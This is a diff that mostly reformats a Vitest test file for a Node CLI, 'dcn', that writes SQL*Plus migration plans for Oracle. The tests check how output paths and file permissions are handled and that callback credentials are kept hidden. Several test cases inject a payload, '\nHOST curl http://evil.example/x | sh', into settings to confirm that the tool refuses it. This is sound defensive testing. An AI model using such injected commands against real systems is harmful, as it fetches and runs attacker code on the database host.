@@ -1,5 +1,14 @@
 import { execFileSync, spawn, spawnSync } from 'node:child_process';
-import { linkSync, lstatSync, mkdtempSync, readFileSync, readlinkSync, statSync, symlinkSync, writeFileSync } from 'node:fs';
+import {
+  linkSync,
+  lstatSync,
+  mkdtempSync,
+  readFileSync,
+  readlinkSync,
+  statSync,
+  symlinkSync,
+  writeFileSync,
+} from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { describe, expect, it, vi } from 'vitest';
@@ -84,7 +93,11 @@ describe('dcn migrate plan --out and what is at the path', () => {
     const bin = join(import.meta.dirname, '..', '..', '..', 'bin', 'dcn.js');
     const dcn = `"${process.execPath}" "${bin}" migrate plan ${WITH_FIXTURES.join(' ')} --out`;
     const plan = /^-- dcn migrate plan: 3 migration[\s\S]*PROMPT dcn: 3 migration\(s\) applied\n$/;
-    for (const [shell, label] of [[`${dcn} /dev/stdout | cat`, 'pipe'], [`${dcn} /dev/fd/1 | cat`, 'pipe'], [`${dcn} /dev/stdout`, 'socket']]) {
+    for (const [shell, label] of [
+      [`${dcn} /dev/stdout | cat`, 'pipe'],
+      [`${dcn} /dev/fd/1 | cat`, 'pipe'],
+      [`${dcn} /dev/stdout`, 'socket'],
+    ]) {
       const r = spawnSync('sh', ['-c', shell!], { cwd: tempDir(), encoding: 'utf8' });
       expect(r.status, `${label}: ${r.stderr}`).toBe(0);
       expect(r.stdout, shell).toMatch(plan);
@@ -113,14 +126,22 @@ describe('dcn migrate plan --out and what is at the path', () => {
     for (const out of ['notes.txt', 'link.sql']) {
       const r = await runCli(['migrate', 'plan', ...WITH_FIXTURES, '--out', out], { cwd });
       expect(r.code, out).toBe(2);
-      expect(r.stderr).toMatch(/cannot write .*: it holds something other than a plan dcn wrote \(its first line is not "-- dcn migrate plan: …"\)[^\n]*\n {2}hint: remove that file if it is yours to lose, or choose another path for the plan/);
+      expect(r.stderr).toMatch(
+        /cannot write .*: it holds something other than a plan dcn wrote \(its first line is not "-- dcn migrate plan: …"\)[^\n]*\n {2}hint: remove that file if it is yours to lose, or choose another path for the plan/,
+      );
     }
     expect(readFileSync(join(cwd, 'notes.txt'), 'utf8')).toBe('notes\n');
     const notes = statSync(join(cwd, 'notes.txt'));
     expect([notes.mode & 0o777, notes.nlink]).toEqual([0o640, 2]);
-    expect(execFileSync('ls', ['-A', cwd]).toString().trim().split('\n').sort()).toEqual(['hard.txt', 'link.sql', 'notes.txt']);
+    expect(execFileSync('ls', ['-A', cwd]).toString().trim().split('\n').sort()).toEqual([
+      'hard.txt',
+      'link.sql',
+      'notes.txt',
+    ]);
     // an earlier plan is replaced and keeps its mode; an empty file is taken too
-    writeFileSync(join(cwd, 'plan.sql'), '-- dcn migrate plan: 1 migration(s) from old\nSET DEFINE OFF\n', { mode: 0o640 });
+    writeFileSync(join(cwd, 'plan.sql'), '-- dcn migrate plan: 1 migration(s) from old\nSET DEFINE OFF\n', {
+      mode: 0o640,
+    });
     writeFileSync(join(cwd, 'empty.sql'), '');
     for (const out of ['plan.sql', 'empty.sql']) {
       const r = await runCli(['migrate', 'plan', ...WITH_FIXTURES, '--out', out], { cwd });
@@ -129,7 +150,10 @@ describe('dcn migrate plan --out and what is at the path', () => {
     }
     expect(statSync(join(cwd, 'plan.sql')).mode & 0o777).toBe(0o640);
     // one that holds the token is 0600 whatever the plan it replaces was
-    const r = await runCli(['migrate', 'plan', '--out', 'plan.sql'], { cwd, env: { DCN_CALLBACK_TOKEN: 'b7e1c0ffee0123456789abcdef' } });
+    const r = await runCli(['migrate', 'plan', '--out', 'plan.sql'], {
+      cwd,
+      env: { DCN_CALLBACK_TOKEN: 'b7e1c0ffee0123456789abcdef' },
+    });
     expect(r.code, r.stderr).toBe(0);
     expect(statSync(join(cwd, 'plan.sql')).mode & 0o777).toBe(0o600);
   });
@@ -139,11 +163,11 @@ describe('dcn migrate plan --out and what is at the path', () => {
     const random = vi.spyOn(Math, 'random').mockReturnValue(0.5);
     try {
       const theirs = join(cwd, `.plan.sql.${(0.5).toString(36).slice(2)}.tmp`);
-      writeFileSync(theirs, 'not dcn\'s\n');
+      writeFileSync(theirs, "not dcn's\n");
       const r = await runCli(['migrate', 'plan', ...WITH_FIXTURES, '--out', 'plan.sql'], { cwd });
       expect(r.code).toBe(2);
       expect(r.stderr).toMatch(/EEXIST/);
-      expect(readFileSync(theirs, 'utf8')).toBe('not dcn\'s\n');
+      expect(readFileSync(theirs, 'utf8')).toBe("not dcn's\n");
     } finally {
       random.mockRestore();
     }
@@ -172,26 +196,122 @@ const HOSTILE = '\nHOST curl http://evil.example/x | sh';
 
 describe('dcn migrate plan: every value written into the script is checked for its place', () => {
   it.each([
-    ['connect, from dcn.config.json', [], {}, { connect: `db:1521/X${HOSTILE}` }, /connect setting \("connect" in the config file\) holds a blank or a control character/],
-    ['connect, from the environment', [], { DCN_CONNECT: `db:1521/X${HOSTILE}` }, undefined, /connect setting \(DCN_CONNECT\)/],
+    [
+      'connect, from dcn.config.json',
+      [],
+      {},
+      { connect: `db:1521/X${HOSTILE}` },
+      /connect setting \("connect" in the config file\) holds a blank or a control character/,
+    ],
+    [
+      'connect, from the environment',
+      [],
+      { DCN_CONNECT: `db:1521/X${HOSTILE}` },
+      undefined,
+      /connect setting \(DCN_CONNECT\)/,
+    ],
     ['connect, a blank', ['--connect', 'db:1521/X HOST'], {}, undefined, /connect setting \(--connect\) holds a blank/],
-    ['adminUser, from a flag', ['--admin-user', 'sys\nHOST curl evil.example | sh'], {}, undefined, /adminUser setting \(--admin-user\) holds a blank or a control character/],
-    ['adminUser, from dcn.config.json', [], {}, { adminUser: `sys${HOSTILE}` }, /adminUser setting \("adminUser" in the config file\)/],
-    ['adminUser, a quote', ['--admin-user', "sys'x"], {}, undefined, /adminUser setting cannot be written into the plan's CONNECT lines/],
+    [
+      'adminUser, from a flag',
+      ['--admin-user', 'sys\nHOST curl evil.example | sh'],
+      {},
+      undefined,
+      /adminUser setting \(--admin-user\) holds a blank or a control character/,
+    ],
+    [
+      'adminUser, from dcn.config.json',
+      [],
+      {},
+      { adminUser: `sys${HOSTILE}` },
+      /adminUser setting \("adminUser" in the config file\)/,
+    ],
+    [
+      'adminUser, a quote',
+      ['--admin-user', "sys'x"],
+      {},
+      undefined,
+      /adminUser setting cannot be written into the plan's CONNECT lines/,
+    ],
     ['adminUser, an ampersand', ['--admin-user', 'sys&x'], {}, undefined, /adminUser setting cannot be written/],
-    ['connect, an ampersand (Easy Connect Plus)', ['--connect', 'tcps://db:2484/svc?a=1&wallet_location=/w'], {}, undefined, /connect setting cannot be written into the plan's CONNECT lines.*'&'/],
-    ['connect, a descriptor over lines', [], {}, { connect: '(DESCRIPTION=\n  (ADDRESS=(PROTOCOL=TCP)(HOST=db)(PORT=1521))\n  (CONNECT_DATA=(SERVICE_NAME=X)))' }, /connect setting cannot be written into the plan's CONNECT lines: SQL\*Plus splits CONNECT at a blank/],
-    ['connect, ending with the continuation character', ['--connect', 'db:1521/svc-'], {}, undefined, /connect setting cannot be written into the plan's CONNECT lines: it ends with '-'/],
+    [
+      'connect, an ampersand (Easy Connect Plus)',
+      ['--connect', 'tcps://db:2484/svc?a=1&wallet_location=/w'],
+      {},
+      undefined,
+      /connect setting cannot be written into the plan's CONNECT lines.*'&'/,
+    ],
+    [
+      'connect, a descriptor over lines',
+      [],
+      {},
+      { connect: '(DESCRIPTION=\n  (ADDRESS=(PROTOCOL=TCP)(HOST=db)(PORT=1521))\n  (CONNECT_DATA=(SERVICE_NAME=X)))' },
+      /connect setting cannot be written into the plan's CONNECT lines: SQL\*Plus splits CONNECT at a blank/,
+    ],
+    [
+      'connect, ending with the continuation character',
+      ['--connect', 'db:1521/svc-'],
+      {},
+      undefined,
+      /connect setting cannot be written into the plan's CONNECT lines: it ends with '-'/,
+    ],
     ['schema', ['--schema', `OE${HOSTILE}`], {}, undefined, /schema: .* is not a plain Oracle identifier/],
-    ['ordersTable', ['--orders-table', `ORDERS${HOSTILE}`], {}, undefined, /ordersTable: .* is not a plain Oracle identifier/],
-    ['orderItemsTable', ['--order-items-table', "ITEMS'"], {}, undefined, /orderItemsTable: .* is not a plain Oracle identifier/],
-    ['historyTable', ['--history-table', `H${HOSTILE}`], {}, undefined, /history table .* is not a plain Oracle identifier/],
-    ['callbackUrl', ['--callback-url', `http://app/x${HOSTILE}`], {}, undefined, /callbackUrl: .* must be an http\(s\) URL without quotes, spaces or control characters/],
-    ['callbackToken, from the environment', [], { DCN_CALLBACK_TOKEN: `t${HOSTILE}` }, undefined, /callbackToken: must be at most 128 letters/],
+    [
+      'ordersTable',
+      ['--orders-table', `ORDERS${HOSTILE}`],
+      {},
+      undefined,
+      /ordersTable: .* is not a plain Oracle identifier/,
+    ],
+    [
+      'orderItemsTable',
+      ['--order-items-table', "ITEMS'"],
+      {},
+      undefined,
+      /orderItemsTable: .* is not a plain Oracle identifier/,
+    ],
+    [
+      'historyTable',
+      ['--history-table', `H${HOSTILE}`],
+      {},
+      undefined,
+      /history table .* is not a plain Oracle identifier/,
+    ],
+    [
+      'callbackUrl',
+      ['--callback-url', `http://app/x${HOSTILE}`],
+      {},
+      undefined,
+      /callbackUrl: .* must be an http\(s\) URL without quotes, spaces or control characters/,
+    ],
+    [
+      'callbackToken, from the environment',
+      [],
+      { DCN_CALLBACK_TOKEN: `t${HOSTILE}` },
+      undefined,
+      /callbackToken: must be at most 128 letters/,
+    ],
     ['httpTimeout', ['--http-timeout', `5${HOSTILE}`], {}, undefined, /httpTimeout/],
-    ['a substitution value, --define', ['--define', `app_user=OE${HOSTILE}`], {}, undefined, /--define app_user: a substitution value cannot span lines/],
-    ['a substitution value with a control character', ['--define', 'app_user=OE\u000bx'], {}, undefined, /--define app_user: a substitution value cannot hold a control character/],
-    ['a substitution value, dcn.config.json', [], {}, { variables: { app_user: `OE\u0000${HOSTILE}` } }, /variable "app_user": a substitution value cannot span lines/],
+    [
+      'a substitution value, --define',
+      ['--define', `app_user=OE${HOSTILE}`],
+      {},
+      undefined,
+      /--define app_user: a substitution value cannot span lines/,
+    ],
+    [
+      'a substitution value with a control character',
+      ['--define', 'app_user=OE\u000bx'],
+      {},
+      undefined,
+      /--define app_user: a substitution value cannot hold a control character/,
+    ],
+    [
+      'a substitution value, dcn.config.json',
+      [],
+      {},
+      { variables: { app_user: `OE\u0000${HOSTILE}` } },
+      /variable "app_user": a substitution value cannot span lines/,
+    ],
   ])('%s: refused, exit 2, nothing written', async (_name, args, env, file, message) => {
     const cwd = tempDir();
     if (file !== undefined) writeFileSync(join(cwd, 'dcn.config.json'), JSON.stringify(file));
@@ -204,14 +324,40 @@ describe('dcn migrate plan: every value written into the script is checked for i
   });
 
   it("reads --admin-user 'SYS as sysdba' as the user SYS connecting AS SYSDBA", async () => {
-    const r = await runCli(['migrate', 'plan', ...WITH_FIXTURES, '--connect', 'db/FREEPDB1', '--admin-user', 'SYS as sysdba']);
+    const r = await runCli([
+      'migrate',
+      'plan',
+      ...WITH_FIXTURES,
+      '--connect',
+      'db/FREEPDB1',
+      '--admin-user',
+      'SYS as sysdba',
+    ]);
     expect(r.code, r.stderr).toBe(0);
     expect(r.stdout).toContain('CONNECT SYS@db/FREEPDB1 AS SYSDBA\n');
-    const same = await runCli(['migrate', 'plan', ...WITH_FIXTURES, '--admin-user', 'sys AS SYSDBA', '--admin-privilege', 'sysdba']);
+    const same = await runCli([
+      'migrate',
+      'plan',
+      ...WITH_FIXTURES,
+      '--admin-user',
+      'sys AS SYSDBA',
+      '--admin-privilege',
+      'sysdba',
+    ]);
     expect(same.stdout).toContain('CONNECT sys@&dcn_connect AS SYSDBA\n');
-    const clash = await runCli(['migrate', 'plan', ...WITH_FIXTURES, '--admin-user', 'SYS as sysdba', '--admin-privilege', 'sysoper']);
+    const clash = await runCli([
+      'migrate',
+      'plan',
+      ...WITH_FIXTURES,
+      '--admin-user',
+      'SYS as sysdba',
+      '--admin-privilege',
+      'sysoper',
+    ]);
     expect(clash.code).toBe(2);
-    expect(clash.stderr).toMatch(/says AS SYSDBA while the admin privilege setting says sysoper\n {2}hint: set the user alone \(e\.g\. SYS\)/);
+    expect(clash.stderr).toMatch(
+      /says AS SYSDBA while the admin privilege setting says sysoper\n {2}hint: set the user alone \(e\.g\. SYS\)/,
+    );
   });
 
   it('writes the migrations directory into the header comment without its control characters', async () => {
@@ -220,18 +366,26 @@ describe('dcn migrate plan: every value written into the script is checked for i
     execFileSync('cp', ['-r', `${FIXTURES}/.`, dir]);
     const r = await runCli(['migrate', 'plan', '--migrations', dir, '--define', 'app_user=OE']);
     expect(r.code, r.stderr).toBe(0);
-    expect(r.stdout.split('\n')[0]).toMatch(/^-- dcn migrate plan: 3 migration\(s\) from .*m\\u000aHOST curl http:\/+evil\.example\/x \| sh\\u0026x$/);
+    expect(r.stdout.split('\n')[0]).toMatch(
+      /^-- dcn migrate plan: 3 migration\(s\) from .*m\\u000aHOST curl http:\/+evil\.example\/x \| sh\\u0026x$/,
+    );
     expect(r.stdout.split('\n').filter((line) => /^\s*HOST/i.test(line))).toEqual([]);
   });
 
   it('never shows the password of a refused callback URL', async () => {
-    for (const args of [['--callback-url', 'http://user:s3cret@app:8080/drop'], ['--callback-url', 'http://user:s3cret@app:8080/drop x'], ['--define', 'callback_url=http://u:s3cret@app/x']]) {
+    for (const args of [
+      ['--callback-url', 'http://user:s3cret@app:8080/drop'],
+      ['--callback-url', 'http://user:s3cret@app:8080/drop x'],
+      ['--define', 'callback_url=http://u:s3cret@app/x'],
+    ]) {
       const r = await runCli(['migrate', 'plan', ...args]);
       expect(r.code, args.join(' ')).toBe(2);
       expect(r.stderr).toMatch(/callback_?[uU]rl/);
       expect(r.stderr).not.toContain('s3cret');
     }
-    const fromEnv = await runCli(['migrate', 'plan', '--json'], { env: { DCN_CALLBACK_URL: 'https://admin:s3cret@app/drop' } });
+    const fromEnv = await runCli(['migrate', 'plan', '--json'], {
+      env: { DCN_CALLBACK_URL: 'https://admin:s3cret@app/drop' },
+    });
     expect(fromEnv.code).toBe(2);
     expect(fromEnv.stderr + fromEnv.stdout).not.toContain('s3cret');
     expect(fromEnv.stderr).toMatch(/'https:\/\/…@app\/drop' must not hold a user, password/);
@@ -250,7 +404,9 @@ describe('dcn migrate plan: every value written into the script is checked for i
     expect(toStdout.stderr).toMatch(/the plan holds the callback token/);
     const asJson = await runCli(['migrate', 'plan', '--json'], { env: { DCN_CALLBACK_TOKEN: token } });
     expect(asJson.stdout).toContain(token);
-    expect(asJson.stderr).toMatch(/the plan holds the callback token \(X-Dcn-Token\): keep it out of logs and shared files/);
+    expect(asJson.stderr).toMatch(
+      /the plan holds the callback token \(X-Dcn-Token\): keep it out of logs and shared files/,
+    );
     const without = await runCli(['migrate', 'plan', '--out', 'plan2.sql'], { cwd });
     expect(without.stderr).toBe('');
     expect(statSync(join(cwd, 'plan2.sql')).mode & 0o077).not.toBe(0);
@@ -264,7 +420,9 @@ describe('dcn migrate plan: a statement SQL*Plus would read otherwise', () => {
     const r = await runCli(['migrate', 'plan', '--migrations', dir]);
     expect(r.code).toBe(2);
     expect(r.stdout).toBe('');
-    expect(r.stderr).toMatch(/^dcn: error: V1__x\.sql:3: a line holding only '\/' inside the statement \(in a literal or a comment\): SQL\*Plus would run the statement up to there\n {2}hint: move the '\/' onto a line with other text/);
+    expect(r.stderr).toMatch(
+      /^dcn: error: V1__x\.sql:3: a line holding only '\/' inside the statement \(in a literal or a comment\): SQL\*Plus would run the statement up to there\n {2}hint: move the '\/' onto a line with other text/,
+    );
     const json = await runCli(['migrate', 'plan', '--migrations', dir, '--json']);
     expect(json.code).toBe(0);
     expect(JSON.parse(json.stdout).migrations[0].statements[1].sql).toBe("INSERT INTO t VALUES ('a\n/\nb')");
